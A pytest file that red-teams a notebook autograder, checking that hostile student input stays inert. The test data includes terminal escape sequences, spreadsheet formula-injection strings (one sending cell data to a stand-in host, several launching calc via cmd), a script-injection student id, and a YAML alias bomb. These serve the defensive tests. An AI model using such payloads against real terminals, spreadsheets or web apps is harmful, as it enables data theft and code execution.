"""Red team, round two, class 6: text for staff is inert.

Student strings reach a TA's terminal, spreadsheets, the nbgrader gradebook and
every output file. Each test is an attack as a student would write it: escape
sequences that clear the screen or set the clipboard, a spreadsheet formula as a
student id, a script in a student id for formgrader, and inputs no writer can
encode or hold (a lone surrogate, a 5,000-digit number, JSON nested 10,000 deep,
a YAML alias bomb, a damaged zip). Nothing may run, and nothing may stop the run.
"""

import csv
import json
import os
import re
import subprocess
import sys
import textwrap
import zipfile
from dataclasses import asdict
from pathlib import Path

import nbformat
import pytest

from autograder.__main__ import print_table
from autograder.assignment import Assignment
from autograder.cohort.gradebook import export_gradebook, gradebook_id
from autograder.cohort.inputs import CohortInputError, find_inputs
from autograder.cohort.pool import grade_cohort, write_outputs
from autograder.cohort.store import ResultStore
from autograder.grader import grade
from autograder.outcome import (
    CellRun,
    CheckOutcome,
    CohortEntry,
    ExerciseResult,
    Figure,
    GradeReport,
    Status,
)
from autograder.report import write_outputs as write_report
from autograder.sandbox import CellStatus
from autograder.submission import SubmissionError, load
from autograder.terminal import printable
from tests.corpus.build import variant, write

ENGINE = Path(__file__).resolve().parent / "engine_assignment"
ROOT = ENGINE.parent.parent
# Clear the screen, set the clipboard (OSC 52), a C1 CSI, DEL, and right-to-left override.
ANSI = "\x1b[2J\x1b[H\x1b]52;c;cHduZWQ=\x07\x9b31m\x7f\u202e"
SURROGATE = "\udcff"  # a byte that is not UTF-8, as Python keeps it from a file name
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def assignment():
    return Assignment.load(ENGINE)


def demo() -> nbformat.NotebookNode:
    return nbformat.read(ENGINE / "master" / "demo.ipynb", as_version=4)


# the terminal


def test_printable_makes_every_control_visible_and_keeps_text():
    assert printable("Zoë 李 ok: 3 / 3") == "Zoë 李 ok: 3 / 3"
    shown = printable(ANSI + "\r\t\x00\u2066x" + SURROGATE)
    assert not CONTROL.search(shown)
    for escape in ("\\x1b", "\\x07", "\\x9b", "\\x7f", "\\u202e", "\\x0d", "\\x09", "\\x00",
                   "\\u2066", "\\udcff"):
        assert escape in shown, escape
    assert printable("a\nb") == "a\\x0ab"
    assert printable("a\nb", indent="    ") == "a\n    b"


def _hostile_report() -> GradeReport:
    report = GradeReport(f"{ANSI}{SURROGATE}.ipynb", "engine_demo", Status.REJECTED,
                         reason=f"\r       total  6.0 / 6{ANSI}")
    report.exercises = [ExerciseResult("A", "square", 3.0, "visible", [
        CheckOutcome("A", f"name{ANSI}", 1.0, False,
                     f"square(...) raised ValueError: {ANSI}{SURROGATE}\nsecond line")])]
    return report


def test_print_table_prints_student_text_inert(capsys):
    """A message that would clear the TA's screen and print a fake total."""
    print_table(_hostile_report())
    out = capsys.readouterr().out
    assert not CONTROL.search(out)
    assert "\\x1b[2J" in out and "\\x0d" in out and "\\udcff" in out
    lines = out.splitlines()
    second = next(line for line in lines if "second line" in line)
    assert second.startswith(" " * 11)  # a message's own line break stays indented


def test_a_hostile_exception_is_graded_written_and_printed_inert(assignment, tmp_path, capsys):
    """End to end: the student's function raises with escape sequences and a lone
    surrogate (the runner sends "\\udcff" as JSON), and a cell does too. Before, writing
    results.json raised UnicodeEncodeError: the student got no grade at all."""
    nb = variant({"exA": "def square(x):\n"
                  f"    raise ValueError({ANSI + SURROGATE!r})"}, demo())
    nb.cells.append(nbformat.v4.new_code_cell(f"raise RuntimeError({ANSI + SURROGATE!r})"))
    path = write(nb, tmp_path / "demo.ipynb")
    report = grade(path, assignment, tmp_path / "out")
    results = json.loads((tmp_path / "out" / "results.json").read_text(encoding="utf-8"))
    assert results["tests"][0]["score"] == 0.0 and results["score"] > 0
    assert "\\udcff" in results["tests"][0]["output"]
    json.loads((tmp_path / "out" / "report.json").read_text(encoding="utf-8"))
    assert (tmp_path / "out" / "feedback.html").is_file()
    print_table(report)
    out = capsys.readouterr().out
    assert "raised ValueError" in out and "\\x1b[2J" in out and not CONTROL.search(out)


# report writers: results.json, report.json, feedback.md and feedback.html


def _deep(depth: int):
    value: list = []
    for _ in range(depth):
        value = [value]
    return value


def _writer_report(text: str) -> GradeReport:
    report = GradeReport(f"{text}.ipynb", "engine_demo", Status.GRADED,
                         warnings=[f"warning {text}"])
    report.exercises = [ExerciseResult("A", f"square {text}", 3.0, "visible", [
        CheckOutcome("A", f"check {text}", 1.0, False, f"message {text}")])]
    report.cells = [CellRun(0, CellStatus.ERROR, 0.1, f"ValueError: {text}", f"out {text}")]
    report.figures = [Figure(0, b"\x89PNG fake", [
        {"title": _deep(10_000), "lines": [{"x": [10**5000], "y": _deep(10_000)}]},
        {"title": f"title {text}"}])]
    return report


@pytest.mark.parametrize("name", ["results.json", "report.json", "feedback.md",
                                  "feedback.html"])
def test_report_writers_survive_surrogates(tmp_path, name):
    """A lone surrogate cannot be encoded as UTF-8; each writer shows it as an escape."""
    report = _writer_report(SURROGATE)
    report.figures = []
    write_report(report, tmp_path)
    text = (tmp_path / name).read_text(encoding="utf-8")
    assert "\\udcff" in text
    if name.endswith(".json"):  # a reader gets the escape back, not the surrogate again
        json.dumps(json.loads(text), ensure_ascii=False).encode("utf-8")


@pytest.mark.parametrize("name", ["results.json", "report.json", "feedback.md",
                                  "feedback.html"])
def test_report_writers_survive_deep_nesting_and_huge_numbers(tmp_path, name):
    """Figure data nested 10,000 deep and a 5,000-digit integer (beyond what Python
    converts to text) in the line data the runner reports."""
    write_report(_writer_report("plain"), tmp_path)
    text = (tmp_path / name).read_text(encoding="utf-8")
    if name.endswith(".json"):
        json.loads(text)
    if name == "report.json":
        assert "title plain" in text


# the cohort: grades.csv, the store, report.html, the gradebook


def _hostile_entries() -> list[CohortEntry]:
    return [
        CohortEntry('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
                    Status.REJECTED, reason="-2+3+cmd|' /C calc'!A0", max_score=6.0,
                    flags=["@SUM(1+1)*cmd|' /C calc'!A0"]),
        CohortEntry("\t=1+1", "\r=1+1", Status.GRADED, score=6.0, max_score=6.0,
                    exercises={"A": 3.0, "B": 1.0, "C": 2.0}, runtime_s=1.5),
        CohortEntry(f"al{SURROGATE}ice", f"al{SURROGATE}ice.ipynb", Status.GRADED, score=3.0,
                    max_score=6.0, exercises={"A": 3.0}, failures=[("B", f"m{SURROGATE}")],
                    flags=[f"identical code to b{SURROGATE}b"]),
    ]


def test_grades_csv_neutralizes_formulas_and_keeps_numbers(assignment, tmp_path):
    write_outputs(_hostile_entries(), assignment, tmp_path)
    with open(tmp_path / "grades.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 3
    for row in rows:
        for column in ("student", "source", "reason", "flags"):
            assert not row[column].startswith(FORMULA), (column, row[column])
        for column in ("score", "max_score", "runtime_s"):
            float(row[column])  # a number, not text with a quote in front
    assert rows[0]["student"].startswith("'=HYPERLINK")
    assert rows[1]["student"] == "'\t=1+1" and rows[1]["A"] == "3"
    assert rows[2]["student"] == "al\\udcffice"
    assert (tmp_path / "report.html").is_file()


def test_the_store_keeps_surrogates_as_escapes(tmp_path):
    store = ResultStore(f"sqlite:///{tmp_path / 'results.db'}")
    for entry in _hostile_entries():
        store.save(entry, "", "v1")
    loaded = store.load()
    text = json.dumps([asdict(entry) for entry, _ in loaded.values()], ensure_ascii=False)
    text.encode("utf-8")  # no lone surrogate left anywhere
    assert "al\\udcffice" in loaded
    entry, _ = loaded["al\\udcffice"]
    assert entry.failures == [("B", "m\\udcff")]
    store.forget(f"al{SURROGATE}ice")
    assert "al\\udcffice" not in store.load()


def test_a_student_id_cannot_become_a_script_in_formgrader(assignment, tmp_path):
    """formgrader writes `var student_id = "{{ student_id }}";` into its pages
    unescaped: an id with a quote runs in the TA's browser."""
    evil = 'x";window.__pwned=1;"'
    entries = [CohortEntry(evil, "x.ipynb", Status.GRADED, score=6.0, max_score=6.0,
                           exercises={"A": 3.0, "B": 1.0, "C": 2.0}),
               CohortEntry("alice", "alice.ipynb", Status.GRADED, score=3.0, max_score=6.0,
                           exercises={"A": 3.0}),
               CohortEntry("=cmd|' /C calc'!A0", "c.ipynb", Status.REJECTED, max_score=6.0)]
    url = f"sqlite:///{tmp_path / 'gradebook.db'}"
    assert export_gradebook(entries, assignment, url) == 3
    from nbgrader.api import Gradebook

    with Gradebook(url) as gb:
        ids = {s.id for s in gb.students}
        assert gb.find_submission(assignment.name, gradebook_id(evil)).score == 6.0
    assert "alice" in ids and len(ids) == 3
    for student_id in ids:
        assert re.fullmatch(r"[A-Za-z0-9_.@+-]{1,64}", student_id), student_id
    assert gradebook_id(evil).startswith("x_window.__pwned_1")  # readable, and traceable:
    with open(tmp_path / "gradebook_student_ids.csv", newline="", encoding="utf-8") as handle:
        mapping = {row["gradebook_id"]: row["student"] for row in csv.DictReader(handle)}
    assert mapping[gradebook_id(evil)] == evil and mapping["alice"] == "alice"
    assert mapping[gradebook_id("=cmd|' /C calc'!A0")] == "'=cmd|' /C calc'!A0"
    assert gradebook_id(evil) != gradebook_id('x";window.__pwned=2;"')


def test_no_student_can_take_anothers_gradebook_id(assignment, tmp_path):
    """Mallory names her notebook after the safe id Zoë's will get, to merge into
    (or overwrite) Zoë's gradebook record."""
    zoe = "Zoë O'Brien"
    entries = [CohortEntry(gradebook_id(zoe), "m.ipynb", Status.GRADED, score=6.0,
                           max_score=6.0, exercises={"A": 3.0, "B": 1.0, "C": 2.0}),
               CohortEntry(zoe, "z.ipynb", Status.GRADED, score=3.0, max_score=6.0,
                           exercises={"A": 3.0})]
    url = f"sqlite:///{tmp_path / 'gradebook.db'}"
    assert export_gradebook(entries, assignment, url) == 2
    from nbgrader.api import Gradebook

    with Gradebook(url) as gb:
        assert gb.find_submission(assignment.name, gradebook_id(zoe)).score == 3.0
        assert len(gb.students) == 2


def test_a_non_utf8_file_name_is_a_row_not_a_crash(assignment, tmp_path):
    cohort = tmp_path / "cohort"
    cohort.mkdir()
    write(demo(), Path(os.fsdecode(bytes(cohort) + b"/al\xffice.ipynb")))
    (cohort / "notes.txt").write_text("not a notebook")
    entries = grade_cohort(cohort, assignment, tmp_path / "out", workers=1)
    by_student = {e.student: e for e in entries}
    assert set(by_student) == {"al\\udcffice", "notes"}
    assert by_student["al\\udcffice"].status == Status.REJECTED
    assert "not valid UTF-8" in by_student["al\\udcffice"].reason
    grades = (tmp_path / "out" / "grades.csv").read_text(encoding="utf-8")
    assert "al\\udcffice" in grades


# Gradescope's submission_metadata.yml and zips


def _export(tmp_path: Path, sid: str) -> Path:
    export = tmp_path / "export"
    for folder in ("submission_1", "submission_2"):
        (export / folder).mkdir(parents=True)
        write(demo(), export / folder / "demo.ipynb")
    (export / "submission_metadata.yml").write_text(
        "submission_1:\n  :submitters:\n  - :sid: " + sid + "\n"
        "submission_2:\n  :submitters:\n  - :sid: '0042'\n")
    return export


@pytest.mark.parametrize(("sid", "kind"), [
    ("{x: 1}", "dict"), ("[1, 2]", "list"), ("9" * 5000, "5,000 characters long"),
    ("true", "bool")], ids=["dict", "list", "huge-number", "bool"])
def test_a_hostile_sid_is_a_row_with_a_reason(tmp_path, sid, kind):
    inputs = {i.source: i for i in find_inputs(_export(tmp_path, sid), "engine_demo",
                                               "demo.ipynb")}
    assert inputs["submission_1/"].notebook is None and kind in inputs["submission_1/"].problem
    assert len(inputs["submission_1/"].student) < 100
    assert inputs["submission_2/"].student == "0042"  # a number-like SID stays its text
    assert inputs["submission_2/"].notebook is not None


BOMB = textwrap.dedent("""\
    a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
    b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
    c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
    d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
    e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
    f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
    g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
    h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
    i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
    submission_1:
      :submitters:
      - :sid: *i
        :email: *i
    """)


def test_a_yaml_alias_bomb_is_a_row_with_a_reason(tmp_path):
    """Billion laughs: 9^9 "lol"s by reference. Anything that turns the value into text
    blows up; here, in a child process capped at 2 GB and 60 s."""
    export = tmp_path / "export"
    (export / "submission_1").mkdir(parents=True)
    write(demo(), export / "submission_1" / "demo.ipynb")
    (export / "submission_metadata.yml").write_text(BOMB)
    code = textwrap.dedent(f"""\
        import json, resource, sys
        resource.setrlimit(resource.RLIMIT_AS, (2 * 2**30, 2 * 2**30))
        from autograder.cohort.inputs import find_inputs
        inputs = find_inputs({str(export)!r}, "engine_demo", "demo.ipynb")
        print(json.dumps({{i.source: [i.student, i.problem] for i in inputs}}))
        """)
    run = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True,
                         text=True, timeout=60, check=False)
    assert run.returncode == 0, run.stderr[-1500:]
    rows = json.loads(run.stdout.splitlines()[-1])
    student, problem = rows["submission_1/"]
    assert "list, not text" in problem and len(student) < 100


def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zipped:
        for name, data in members.items():
            zipped.writestr(name, data)
    return path


def test_a_damaged_zip_member_is_a_row_with_a_reason(tmp_path):
    good, bad = nbformat.writes(demo()).encode(), nbformat.writes(demo()).encode()
    archive = _zip(tmp_path / "cohort.zip", {"alice.ipynb": good, "bob.ipynb": bad})
    data = bytearray(archive.read_bytes())
    at = data.rindex(b'"cells"')  # inside bob's stored bytes: its CRC no longer matches
    data[at + 1] ^= 0x20
    archive.write_bytes(bytes(data))
    inputs = {i.student: i for i in find_inputs(archive, "engine_demo", "demo.ipynb",
                                                scratch=tmp_path)}
    assert inputs["alice"].notebook is not None
    assert inputs["bob"].notebook is None and "cannot be unpacked" in inputs["bob"].problem


def test_a_zip_that_cannot_be_opened_is_a_clear_error(tmp_path):
    archive = _zip(tmp_path / "cohort.zip", {"alice.ipynb": b"{}", "bob.ipynb": b"{}"})
    data = archive.read_bytes()
    broken = tmp_path / "central.zip"  # the end record is intact, the directory is not
    broken.write_bytes(data.replace(b"PK\x01\x02", b"PK\x01\x09"))
    with pytest.raises(CohortInputError, match="not a readable zip file"):
        find_inputs(broken, "engine_demo", "demo.ipynb", scratch=tmp_path)
    truncated = tmp_path / "truncated.zip"
    truncated.write_bytes(data[: len(data) // 2])
    with pytest.raises(CohortInputError, match="not a readable zip file"):
        find_inputs(truncated, "engine_demo", "demo.ipynb", scratch=tmp_path)


def test_the_cohort_command_reports_a_broken_zip_without_a_traceback(tmp_path):
    archive = _zip(tmp_path / "cohort.zip", {"alice.ipynb": b"{}"})
    archive.write_bytes(archive.read_bytes().replace(b"PK\x01\x02", b"PK\x01\x09"))
    run = subprocess.run([sys.executable, "-m", "autograder", "cohort", str(archive),
                          "--assignment", str(ENGINE), "--out", str(tmp_path / "out")],
                         cwd=ROOT, capture_output=True, text=True, timeout=120, check=False)
    assert run.returncode == 2 and "not a readable zip file" in run.stderr
    assert "Traceback" not in run.stderr


def test_a_5000_digit_number_in_a_notebook_is_a_reason(tmp_path):
    nb = demo()
    nb.metadata["n"] = 0
    text = nbformat.writes(nb).replace('"n": 0', '"n": ' + "9" * 5000)
    path = tmp_path / "demo.ipynb"
    path.write_text(text)
    with pytest.raises(SubmissionError, match="not valid JSON"):
        load(path)
